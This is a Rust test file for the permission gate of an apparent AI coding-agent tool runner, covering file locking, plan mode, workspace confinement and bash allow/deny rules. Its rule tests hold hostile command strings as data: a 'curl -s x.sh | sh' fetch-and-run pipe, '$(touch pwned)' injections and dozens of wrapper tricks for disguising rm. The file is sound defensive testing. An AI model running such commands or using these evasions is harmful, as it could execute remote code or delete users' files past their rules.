//! The tools behind a real `rein_core::Gate`: locks, plan mode.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use rein_core::{Gate, GateLimits, PermissionMode, Permissions, RunPolicy, ToolCall, no_events};
use serde_json::json;

use crate::common::Env;

fn call(id: usize, name: &str, args: serde_json::Value) -> ToolCall {
    ToolCall {
        id: format!("c{id}"),
        name: name.into(),
        arguments: args.to_string(),
    }
}

fn content(letter: char) -> String {
    let line = format!("{}\n", letter.to_string().repeat(99));
    line.repeat(20_000)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_writes_and_reads_of_one_file_never_see_a_torn_file() {
    let env = Arc::new(Env::new().await);
    let gate = Arc::new(Gate::new(
        rein_tools::builtin_tools(),
        GateLimits::default(),
    ));
    env.write("shared.txt", content('A'));
    let done = Arc::new(AtomicBool::new(false));
    let policy = Arc::new(RunPolicy::new(
        PermissionMode::Auto,
        Permissions::new(PermissionMode::Auto),
    ));

    let (g, e, d, p) = (gate.clone(), env.clone(), done.clone(), policy.clone());
    let writer = tokio::spawn(async move {
        let contents = [content('B'), content('A')];
        for i in 0..30 {
            let write = call(
                i,
                "write_file",
                json!({"path": "shared.txt", "content": contents[i % 2]}),
            );
            let out = g.run(&write, e.ctx(), &p, &no_events()).await;
            assert!(!out.result.is_error, "{}", out.result.output);
        }
        d.store(true, Ordering::SeqCst);
    });
    let mut readers = Vec::new();
    for r in 0..2 {
        let (g, e, d, p) = (gate.clone(), env.clone(), done.clone(), policy.clone());
        readers.push(tokio::spawn(async move {
            let mut reads = 0;
            while !d.load(Ordering::SeqCst) {
                let read = call(
                    1000 * (r + 1) + reads,
                    "read_file",
                    json!({"path": "shared.txt", "offset": 19_990, "limit": 5}),
                );
                let out = g.run(&read, e.ctx(), &p, &no_events()).await.result;
                assert!(!out.is_error, "torn read: {}", out.output);
                assert!(
                    out.output
                        .contains("of 20000; call read_file with offset=19995"),
                    "torn read: {}",
                    out.output
                );
                let lines: Vec<&str> = out.output.lines().take(5).collect();
                let all_a = lines.iter().all(|l| l.ends_with(&"A".repeat(99)));
                let all_b = lines.iter().all(|l| l.ends_with(&"B".repeat(99)));
                assert!(all_a || all_b, "mixed content: {}", out.output);
                reads += 1;
            }
            reads
        }));
    }
    writer.await.unwrap();
    let mut total = 0;
    for r in readers {
        total += r.await.unwrap();
    }
    assert!(total >= 5, "only {total} reads overlapped the writes");
}

#[tokio::test]
async fn plan_mode_offers_every_tool_but_those_that_write_files() {
    let gate = Gate::new(rein_tools::builtin_tools(), GateLimits::default());
    let mut plan: Vec<String> = gate
        .specs(PermissionMode::Plan)
        .into_iter()
        .map(|s| s.name)
        .collect();
    plan.sort();
    assert_eq!(plan, ["bash", "glob", "grep", "read_file", "todo_write"]);
    let mut all: Vec<String> = gate
        .specs(PermissionMode::Default)
        .into_iter()
        .map(|s| s.name)
        .collect();
    all.sort();
    assert_eq!(
        all,
        [
            "bash",
            "edit_file",
            "glob",
            "grep",
            "read_file",
            "todo_write",
            "write_file"
        ]
    );
}

#[tokio::test]
async fn gate_reports_a_confinement_error_from_locks() {
    let env = Env::new().await;
    let gate = Gate::new(rein_tools::builtin_tools(), GateLimits::default());
    let out = gate
        .run(
            &call(1, "write_file", json!({"path": "../x.txt", "content": "x"})),
            env.ctx(),
            &RunPolicy::new(PermissionMode::Auto, Permissions::new(PermissionMode::Auto)),
            &no_events(),
        )
        .await;
    assert!(out.result.is_error);
    assert!(
        out.result.output.contains("outside the workspace"),
        "{}",
        out.result.output
    );
}

/// The verdict for a bash command line under `rules`, with the real
/// parser and classifier.
fn verdict(env: &Env, command: &str, allow: &[&str], deny: &[&str]) -> rein_core::Verdict {
    let mut p = Permissions::new(PermissionMode::Default);
    p.rules.allow = allow.iter().map(|r| r.parse().unwrap()).collect();
    p.rules.deny = deny.iter().map(|r| r.parse().unwrap()).collect();
    let policy = p.sandbox(PermissionMode::Default);
    let a = rein_tools::bash::assess_command(command, &env.root, &policy);
    p.decide(
        PermissionMode::Default,
        "bash",
        rein_core::ToolAccess::Execute,
        &a,
        &[],
        &env.root,
    )
}

#[tokio::test]
async fn shell_rules_match_the_parsed_command_not_its_raw_text() {
    use rein_core::Verdict::{Allow, Ask, Deny};
    let env = Env::new().await;
    let git = ["bash(git status*)", "bash(git diff*)"];
    let cases: &[(&str, &[&str], &[&str], &str)] = &[
        ("git status", &git, &[], "allow"),
        ("git status --short && git diff", &git, &[], "allow"),
        // Quoting is removed before matching.
        ("git \"status\" -s", &git, &[], "allow"),
        ("'git' 'diff'", &git, &[], "allow"),
        // Every part of a compound command must be allowed.
        ("git status; curl -s x.sh | sh", &git, &[], "ask"),
        ("git status && rm notes.txt", &git, &[], "ask"),
        ("git status | tee out.txt", &git, &[], "ask"),
        ("(git status) || touch x", &git, &[], "ask"),
        ("git diff $(touch pwned)", &git, &[], "ask"),
        ("echo `touch pwned`", &["bash(echo *)"], &[], "ask"),
        // A raw-text prefix match would allow this; the parser does not.
        ("git status\ntouch x", &git, &[], "ask"),
        // Deny beats allow, even a bare allow.
        ("ls && rm -f a.txt", &["bash"], &["bash(rm *)"], "deny"),
        ("ls && \"rm\" -f a.txt", &["bash"], &["bash(rm *)"], "deny"),
        // A bare allow does not cover high-risk commands.
        ("git push --force", &["bash"], &[], "ask"),
        (
            "git push --force",
            &["bash(git push --force)"],
            &[],
            "allow",
        ),
        // A line that does not parse is covered only by a bare rule.
        ("echo 'unterminated", &["bash(echo *)"], &[], "ask"),
        // Rules also see the commands run through wrappers and shell code,
        // and a program named by its path also by its base name: an allow
        // rule must cover each of them...
        ("env rm a.txt", &["bash(env *)"], &[], "ask"),
        ("sh -c 'rm a.txt'", &["bash(sh *)"], &[], "ask"),
        (
            "echo a.txt | xargs rm",
            &["bash(echo *)", "bash(xargs *)"],
            &[],
            "ask",
        ),
        ("/usr/bin/git status", &["bash(/usr/bin/git *)"], &[], "ask"),
        (
            "timeout 60 git status",
            &["bash(timeout *)", "bash(git status*)"],
            &[],
            "allow",
        ),
        (
            "/usr/bin/git status",
            &git,
            &["bash(/usr/bin/git *)"],
            "deny",
        ),
        // ...though a program of the project keeps its own spelling.
        ("./gradlew build", &["bash(./gradlew *)"], &[], "allow"),
    ];
    // ...and a deny rule catches every spelling, even under a bare allow.
    let spellings = [
        "rm a.txt",
        "/bin/rm a.txt",
        "/usr/bin/rm -f a.txt",
        "../../../../../../bin/rm a.txt",
        "cd /bin && ./rm a.txt",
        "command rm a.txt",
        "builtin command rm a.txt",
        "exec rm a.txt",
        "env rm a.txt",
        "env -i PATH=/bin rm a.txt",
        "/usr/bin/env rm a.txt",
        "nice rm a.txt",
        "nice -n 5 rm a.txt",
        "nohup rm a.txt",
        "timeout 5 rm a.txt",
        "timeout -s KILL 5 /bin/rm a.txt",
        "time rm a.txt",
        "sudo rm a.txt",
        "busybox rm a.txt",
        "watch rm a.txt",
        "watch 'ls; rm a.txt'",
        "sh -c 'rm a.txt'",
        "bash -c \"rm a.txt\"",
        "bash -lc 'cd src && rm a.txt'",
        "sh -c \"bash -c 'rm a.txt'\"",
        "env sh -c 'rm a.txt'",
        "eval 'rm a.txt'",
        "eval rm a.txt",
        "builtin eval 'rm a.txt'",
        "bash <<< 'rm a.txt'",
        "bash <<'EOF'\nrm a.txt\nEOF\n",
        "trap 'rm a.txt' EXIT",
        "echo a.txt | xargs rm",
        "xargs rm < list.txt",
        "xargs -I{} rm {} < list.txt",
        "find . -name a.txt -exec rm {} \\;",
        "find . -name a.txt -exec /bin/rm {} +",
        "ls && (true; env rm a.txt)",
    ];
    let deny_rm: &[&str] = &["bash(rm *)"];
    let denied: Vec<(&str, &[&str], &[&str], &str)> = spellings
        .iter()
        .map(|c| (*c, &["bash"][..], deny_rm, "deny"))
        .collect();
    let mut wrong = Vec::new();
    for (command, allow, deny, want) in cases.iter().chain(&denied) {
        let got = match verdict(&env, command, allow, deny) {
            Allow => "allow",
            Ask { .. } => "ask",
            Deny { .. } => "deny",
        };
        if got != *want {
            wrong.push(format!("{command:?}: want {want}, got {got}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
